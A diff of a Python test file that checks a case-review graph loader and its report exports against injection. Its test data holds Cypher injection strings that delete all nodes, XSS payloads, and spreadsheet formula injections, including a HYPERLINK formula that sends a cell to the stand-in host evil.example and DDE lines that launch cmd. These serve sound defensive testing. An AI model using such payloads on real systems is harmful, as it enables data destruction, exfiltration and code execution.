@@ -23,6 +23,9 @@ import yaml
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from findings.engine import Report, run_findings
+from findings.model import Finding, Occurrence
+from findings.report import to_csv, to_html
 from graph import statements
 from graph.embedded import EmbeddedBackend, table_ddl
 from graph.load import delete_case, load_case
@@ -30,7 +33,7 @@ from graph.neo4j_backend import constraint_ddl
 from graph.schema import SCHEMA_DIR, SchemaError, load_schema
 from loaders.validate import validate_path
 from queries.library import run_query
-from queries.report import Report, build_report, safe_cell, to_csv, to_html
+from queries.report import safe_cell
 from tests.conftest import MINI_CASE, ROOT
 
 CYPHER_WORD = re.compile(r"\b(MATCH|MERGE|CREATE|UNWIND|RETURN|DELETE|DETACH|WHERE|SET|CALL|LOAD|WITH)\b")
@@ -43,12 +46,24 @@ GENERATORS = {
 }
 # What those generators may interpolate: schema labels, types and columns, and fragments built from them.
 SCHEMA_DERIVED = {
-    "ntype.label", "etype.type", "n.label", "e.type", "n.label.lower()", "e.type.lower()",  # checked names
-    "src", "dst",  # labels of an edge's ends, looked up in the schema by the validator
+    "ntype.label",
+    "etype.type",
+    "n.label",
+    "e.type",
+    "n.label.lower()",
+    "e.type.lower()",  # checked names
+    "src",
+    "dst",  # labels of an edge's ends, looked up in the schema by the validator
     "verb",  # "CREATE" or "MERGE", chosen by graph/load.py
     "where",  # a constant WHERE clause with a $case_id parameter
-    "c", "cols", "pairs", "var", "value(c, k)", "_TYPES[k]",  # columns and types of the schema
-    "_set_clause('n', ntype.columns(), present)", "_set_clause('e', etype.columns(), present)",
+    "c",
+    "cols",
+    "pairs",
+    "var",
+    "value(c, k)",
+    "_TYPES[k]",  # columns and types of the schema
+    "_set_clause('n', ntype.columns(), present)",
+    "_set_clause('e', etype.columns(), present)",
 }
 
 
@@ -72,8 +87,13 @@ def _built_cypher(tree: ast.AST) -> Iterator[tuple[ast.AST, list[ast.expr]]]:
             sides = [node.left, node.right]
             texts = [s.value for s in sides if isinstance(s, ast.Constant) and isinstance(s.value, str)]
             values = [s for s in sides if not isinstance(s, ast.Constant)]
-        elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
-              and isinstance(node.func.value, ast.Constant) and isinstance(node.func.value.value, str)):
+        elif (
+            isinstance(node, ast.Call)
+            and isinstance(node.func, ast.Attribute)
+            and node.func.attr == "format"
+            and isinstance(node.func.value, ast.Constant)
+            and isinstance(node.func.value.value, str)
+        ):
             texts, values = [node.func.value.value], [*node.args, *(k.value for k in node.keywords)]
         if values and any(CYPHER_WORD.search(t) for t in texts):
             yield node, values
@@ -93,8 +113,9 @@ def test_generators_interpolate_only_schema_names():
     unexpected = []
     for rel in GENERATORS:
         for node, values in _built_cypher(ast.parse((ROOT / rel).read_text(encoding="utf-8"))):
-            unexpected += [f"{rel}:{node.lineno}: {{{ast.unparse(v)}}}" for v in values
-                           if ast.unparse(v) not in SCHEMA_DERIVED]
+            unexpected += [
+                f"{rel}:{node.lineno}: {{{ast.unparse(v)}}}" for v in values if ast.unparse(v) not in SCHEMA_DERIVED
+            ]
     assert not unexpected, "\n".join(unexpected)
 
 
@@ -105,7 +126,12 @@ def test_every_generated_statement_names_only_schema_types():
     for n in schema.nodes.values():
         cols = {c for c, _ in n.columns()}
         texts += [statements.node_write(n, verb, cols) for verb in ("CREATE", "MERGE")]
-        texts += [statements.ids_taken(n), statements.node_prune(n), statements.node_count(n, True), statements.node_export(n, True)]
+        texts += [
+            statements.ids_taken(n),
+            statements.node_prune(n),
+            statements.node_count(n, True),
+            statements.node_export(n, True),
+        ]
     for e in schema.edges.values():
         cols = {c for c, _ in e.columns()}
         texts += [statements.edge_write(e, a, b, cols) for a, b in e.pairs()]
@@ -115,13 +141,16 @@ def test_every_generated_statement_names_only_schema_types():
         assert "'" not in text and '"' not in text, f"a literal in generated Cypher: {text}"
 
 
-@pytest.mark.parametrize(("file", "old", "new"), [
-    ("nodes/Child.yaml", "label: Child", "label: 'Child) DETACH DELETE n //'"),
-    ("nodes/Child.yaml", "label: Child", "label: child"),
-    ("edges/WORKS_FOR.yaml", "type: WORKS_FOR", "type: 'WORKS_FOR]->() DETACH DELETE e //'"),
-    ("nodes/Child.yaml", "  name:", "  'name = 1 DETACH DELETE n //':"),
-    ("nodes/Child.yaml", "  name:", "  Name:"),
-])
+@pytest.mark.parametrize(
+    ("file", "old", "new"),
+    [
+        ("nodes/Child.yaml", "label: Child", "label: 'Child) DETACH DELETE n //'"),
+        ("nodes/Child.yaml", "label: Child", "label: child"),
+        ("edges/WORKS_FOR.yaml", "type: WORKS_FOR", "type: 'WORKS_FOR]->() DETACH DELETE e //'"),
+        ("nodes/Child.yaml", "  name:", "  'name = 1 DETACH DELETE n //':"),
+        ("nodes/Child.yaml", "  name:", "  Name:"),
+    ],
+)
 def test_schema_refuses_names_that_are_not_plain(tmp_path, file, old, new):
     """Labels, types and property names are checked when the schema loads, before any Cypher is made."""
     schema_dir = tmp_path / "schema"
@@ -137,40 +166,90 @@ def test_schema_refuses_names_that_are_not_plain(tmp_path, file, old, new):
 # ---------------------------------------------------------------------------------------------
 # Values that look like Cypher, formulas or markup survive the round trip unchanged.
 
-NASTY = ["O'Brien", 'Say "hi"', "back\\slash", "trailing\\", "}{", "{x}", "${x}", "$name", "' OR 1=1 //",
-         "'}) MATCH (n) DETACH DELETE n //", "\\'; MATCH (n) DETACH DELETE n", "`backtick`", "MATCH (n) DETACH DELETE n",
-         "/* comment */", "// comment", "100% {0} {} %s", "¶23 — “curly” ‘quotes’", "Ünïcödé 北京 🧩", "\\u0027",
-         "tab\there", "<script>alert(1)</script>", '=HYPERLINK("http://evil.example","x")', "@SUM(1)", "-2+3",
-         "  spaced  ", "a\u2028b", "null", "NULL", "true", "[]"]
+NASTY = [
+    "O'Brien",
+    'Say "hi"',
+    "back\\slash",
+    "trailing\\",
+    "}{",
+    "{x}",
+    "${x}",
+    "$name",
+    "' OR 1=1 //",
+    "'}) MATCH (n) DETACH DELETE n //",
+    "\\'; MATCH (n) DETACH DELETE n",
+    "`backtick`",
+    "MATCH (n) DETACH DELETE n",
+    "/* comment */",
+    "// comment",
+    "100% {0} {} %s",
+    "¶23 — “curly” ‘quotes’",
+    "Ünïcödé 北京 🧩",
+    "\\u0027",
+    "tab\there",
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://evil.example","x")',
+    "@SUM(1)",
+    "-2+3",
+    "  spaced  ",
+    "a\u2028b",
+    "null",
+    "NULL",
+    "true",
+    "[]",
+]
 
 
 def _case_dir(tmp: Path, case_id: str, prefix: str, names: list[str]) -> Path:
     """A case with one Agency and one Child per name, written as YAML the way any tool would."""
     tmp.mkdir(parents=True, exist_ok=True)
-    (tmp / "case.yaml").write_text(yaml.safe_dump({"case": case_id, "document": f"{prefix}doc", "nodes": [
-        {"type": "SourceDocument", "id": f"{prefix}doc", "name": "Review", "source": "Title page"}]}), encoding="utf-8")
-    nodes = [{"type": "Agency", "id": f"{prefix}ag{i}", "name": name, "sector": "other", "source": "¶1"}
-             for i, name in enumerate(names)]
+    (tmp / "case.yaml").write_text(
+        yaml.safe_dump(
+            {
+                "case": case_id,
+                "document": f"{prefix}doc",
+                "nodes": [{"type": "SourceDocument", "id": f"{prefix}doc", "name": "Review", "source": "Title page"}],
+            }
+        ),
+        encoding="utf-8",
+    )
+    nodes = [
+        {"type": "Agency", "id": f"{prefix}ag{i}", "name": name, "sector": "other", "source": "¶1"}
+        for i, name in enumerate(names)
+    ]
     nodes += [{"type": "Child", "id": f"{prefix}ch{i}", "name": name, "source": "¶1"} for i, name in enumerate(names)]
-    edges = [{"type": "INVOLVED_WITH", "from": f"{prefix}ag{i}", "to": f"{prefix}ch{i}", "period": "2015",
-              "role": name, "source": "¶1"} for i, name in enumerate(names)]
-    (tmp / "records.yaml").write_text(yaml.safe_dump({"nodes": nodes, "edges": edges}, allow_unicode=True),
-                                      encoding="utf-8")
+    edges = [
+        {
+            "type": "INVOLVED_WITH",
+            "from": f"{prefix}ag{i}",
+            "to": f"{prefix}ch{i}",
+            "period": "2015",
+            "role": name,
+            "source": "¶1",
+        }
+        for i, name in enumerate(names)
+    ]
+    (tmp / "records.yaml").write_text(
+        yaml.safe_dump({"nodes": nodes, "edges": edges}, allow_unicode=True), encoding="utf-8"
+    )
     return tmp
 
 
 def _round_trips(backend, case_id: str, prefix: str, names: list[str]) -> None:
     for i, name in enumerate(names):
-        rows = backend.read("MATCH (a:Agency) WHERE a.name = $name AND a.case_id = $case_id RETURN a.id AS id",
-                            {"name": name, "case_id": case_id})
+        rows = backend.read(
+            "MATCH (a:Agency) WHERE a.name = $name AND a.case_id = $case_id RETURN a.id AS id",
+            {"name": name, "case_id": case_id},
+        )
         assert rows == [{"id": f"{prefix}ag{i}"}], name
-        rows = backend.read("MATCH (a:Agency {id: $id})-[r:INVOLVED_WITH]->(c:Child) "
-                            "RETURN a.name AS agency, r.role AS role, c.name AS child", {"id": f"{prefix}ag{i}"})
+        rows = backend.read(
+            "MATCH (a:Agency {id: $id})-[r:INVOLVED_WITH]->(c:Child) "
+            "RETURN a.name AS agency, r.role AS role, c.name AS child",
+            {"id": f"{prefix}ag{i}"},
+        )
         assert rows == [{"agency": name, "role": name, "child": name}], name
-    children = {r["child"]: r["name"] for r in run_query(backend, "children", case_id=case_id)}
+    children = {r["child"]: r["name"] for r in run_query(backend, "children", case_id)}
     assert children == {f"{prefix}ch{i}": name for i, name in enumerate(names)}
-
-
 
 
 def test_nasty_values_round_trip_on_the_embedded_store(embedded, tmp_path):
@@ -188,8 +267,15 @@ def test_nasty_values_round_trip_on_neo4j(neo4j_server, tmp_path):
 
 
 # Any text the validator accepts for a name: no control characters, no lone surrogates.
-NAMES = st.lists(st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=30)
-                 .filter(lambda s: s.strip()), min_size=1, max_size=4, unique=True)
+# Cf (bidi overrides, zero-width characters) is refused in names by the validator (test_validate_attacks.py).
+NAMES = st.lists(
+    st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cf")), min_size=1, max_size=30).filter(
+        lambda s: s.strip()
+    ),
+    min_size=1,
+    max_size=4,
+    unique=True,
+)
 
 
 @pytest.fixture(scope="module")
@@ -221,13 +307,33 @@ def test_any_valid_name_round_trips_on_neo4j(neo4j_server, tmp_path_factory, nam
 # ---------------------------------------------------------------------------------------------
 # Exports: CSV cells cannot run as formulas; HTML cannot run as markup.
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "\n=1+1",
+    ' =HYPERLINK("http://x")',
+    "  \n@SUM(1)",
+    " -1+cmd",
+]
 
 
 def _report(value: str) -> Report:
-    finding = {"query": "uninvited_agencies", "child": "C1", "party": "GP", "party_name": value,
-               "meeting_name": value, "evidence": ["¶4", value]}
+    finding = Finding(
+        "not_in_room",
+        "did_not_attend",
+        "recorded",
+        value,
+        ("C1",),
+        ("GP",),
+        [Occurrence(value, value, refs=("¶4", value), record="M1")],
+        ["¶4", value],
+        tags=[value],
+    )
     return Report("mini", "embedded", [{"child": "C1", "name": value}], [finding])
 
 
@@ -236,7 +342,7 @@ def test_csv_cells_never_start_a_formula(value):
     assert safe_cell(value) == "'" + value
     rows = list(csv.reader(io.StringIO(to_csv(_report(value)))))
     cells = [c for row in rows[1:] for c in row]
-    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+    assert all(not c.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for c in cells), cells
     assert "'" + value in cells
 
 
@@ -250,14 +356,33 @@ def test_csv_report_of_a_case_with_a_malicious_name(tmp_path):
     records.write_text(text.replace("name: GP practice A2", "name: " + json.dumps(evil), 1), encoding="utf-8")
     store = EmbeddedBackend(":memory:")
     load_case(store, validate_path(case_dir))
-    cells = [c for row in csv.reader(io.StringIO(to_csv(build_report(store, "mini")))) for c in row]
+    cells = [c for row in csv.reader(io.StringIO(to_csv(run_findings(store, "mini")))) for c in row]
     store.close()
-    assert "'" + evil in cells
+    assert any(c.startswith("'" + evil) for c in cells)  # the GP's own finding names it first
     assert not [c for c in cells if c.startswith("=")]
 
 
+def test_plain_text_cells_are_left_as_they_are():
+    assert [safe_cell(v) for v in ("Child Q", " Child Q", "¶23", "", None, ["a", "b"])] == [
+        "Child Q",
+        " Child Q",
+        "¶23",
+        "",
+        "",
+        "a; b",
+    ]
+
+
+def test_markdown_report_escapes_html():
+    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>"]
+    for value in attacks:
+        md = to_markdown(_report(value), evidence_text=lambda ref, v=value: v)
+        assert "<script" not in md and "<img" not in md and "<svg" not in md, md
+        assert "&lt;" in md
+
+
 def test_html_report_escapes_script_and_handlers():
-    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "\"><svg onload=alert(1)>"]
+    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', '"><svg onload=alert(1)>']
     for value in attacks:
         page = to_html(_report(value), evidence_text=lambda ref, v=value: v)
         assert "<script>" not in page and "<img" not in page and "<svg" not in page
